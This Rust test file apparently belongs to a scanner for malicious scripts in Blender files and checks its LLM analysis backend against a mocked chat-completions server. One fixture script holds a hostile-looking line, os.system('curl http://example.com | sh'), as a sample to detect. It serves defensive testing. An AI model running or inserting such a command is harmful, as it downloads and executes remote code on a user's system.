use blendscan::analyzer::llm_client::AnalysisBackend;
use blendscan::analyzer::{PromptTemplate, RemoteBackend, RemoteConfig};
use blendscan::error::BackendError;
use blendscan::models::{AnalysisRequest, ExtractedScript, ScriptId};
use mockito::{Matcher, Server};
use serde_json::json;
use std::path::PathBuf;

fn request() -> AnalysisRequest {
    let script = ExtractedScript::new(
        ScriptId::new("auto_run"),
        "scene.blend",
        "auto_run.py",
        "import os\nos.system('curl http://example.com | sh')\n".to_string(),
        PathBuf::from("auto_run.py"),
    );
    PromptTemplate::new(12_000).build_request(&script)
}

fn completion(content: &str) -> String {
    json!({
        "id": "chatcmpl-123",
        "object": "chat.completion",
        "created": 1677652288,
        "model": "qwen3-4b",
        "choices": [{
            "index": 0,
            "message": {
                "role": "assistant",
                "content": content
            },
            "finish_reason": "stop"
        }],
        "usage": {
            "prompt_tokens": 100,
            "completion_tokens": 50,
            "total_tokens": 150
        }
    })
    .to_string()
}

fn backend(server: &Server) -> RemoteBackend {
    let config = RemoteConfig::new(format!("{}/v1", server.url()), "qwen3-4b")
        .with_api_key(Some("secret".to_string()))
        .with_timeout(10)
        .with_retries(3, 10);
    RemoteBackend::new(config).unwrap()
}

#[tokio::test]
async fn test_chat_completion_request_format() {
    let mut server = Server::new_async().await;

    let mock = server
        .mock("POST", "/v1/chat/completions")
        .match_header("authorization", "Bearer secret")
        .match_body(Matcher::PartialJson(json!({
            "model": "qwen3-4b",
            "stream": false
        })))
        .with_status(200)
        .with_header("content-type", "application/json")
        .with_body(completion("<Score>8</Score><Flags>os.system</Flags><Analysis>Pipes a download into a shell.</Analysis>"))
        .expect(1)
        .create_async()
        .await;

    let text = backend(&server).analyze(&request()).await.unwrap();

    assert!(text.contains("<Score>8</Score>"));
    mock.assert_async().await;
}

#[tokio::test]
async fn test_auth_failure_is_not_retried() {
    let mut server = Server::new_async().await;

    let mock = server
        .mock("POST", "/v1/chat/completions")
        .with_status(401)
        .with_body(r#"{"error":"invalid api key"}"#)
        .expect(1)
        .create_async()
        .await;

    let result = backend(&server).analyze(&request()).await;

    assert_eq!(result, Err(BackendError::AuthFailed { status: 401 }));
    mock.assert_async().await;
}

#[tokio::test]
async fn test_server_error_is_retried() {
    let mut server = Server::new_async().await;

    let failing = server
        .mock("POST", "/v1/chat/completions")
        .with_status(503)
        .with_body("model is loading")
        .expect(1)
        .create_async()
        .await;
    let recovered = server
        .mock("POST", "/v1/chat/completions")
        .with_status(200)
        .with_header("content-type", "application/json")
        .with_body(completion("<Score>0</Score><Flags>none</Flags><Analysis>UI only.</Analysis>"))
        .expect(1)
        .create_async()
        .await;

    let text = backend(&server).analyze(&request()).await.unwrap();

    assert!(text.contains("UI only."));
    failing.assert_async().await;
    recovered.assert_async().await;
}

#[tokio::test]
async fn test_client_error_is_rejected_once() {
    let mut server = Server::new_async().await;

    let mock = server
        .mock("POST", "/v1/chat/completions")
        .with_status(404)
        .with_body(r#"{"error":"model not loaded"}"#)
        .expect(1)
        .create_async()
        .await;

    let result = backend(&server).analyze(&request()).await;

    match result {
        Err(BackendError::Rejected { status, message }) => {
            assert_eq!(status, 404);
            assert!(message.contains("model not loaded"));
        }
        other => panic!("expected rejection, got {:?}", other),
    }
    mock.assert_async().await;
}

#[tokio::test]
async fn test_non_json_body_is_invalid_response() {
    let mut server = Server::new_async().await;

    let _mock = server
        .mock("POST", "/v1/chat/completions")
        .with_status(200)
        .with_header("content-type", "text/html")
        .with_body("<html>proxy login</html>")
        .create_async()
        .await;

    let result = backend(&server).analyze(&request()).await;

    assert!(matches!(result, Err(BackendError::InvalidResponse(_))));
}

#[tokio::test]
async fn test_legacy_text_choice_is_accepted() {
    let mut server = Server::new_async().await;

    let _mock = server
        .mock("POST", "/v1/chat/completions")
        .with_status(200)
        .with_header("content-type", "application/json")
        .with_body(json!({ "choices": [{ "index": 0, "text": "<Score>2</Score>" }] }).to_string())
        .create_async()
        .await;

    let text = backend(&server).analyze(&request()).await.unwrap();
    assert_eq!(text, "<Score>2</Score>");
}
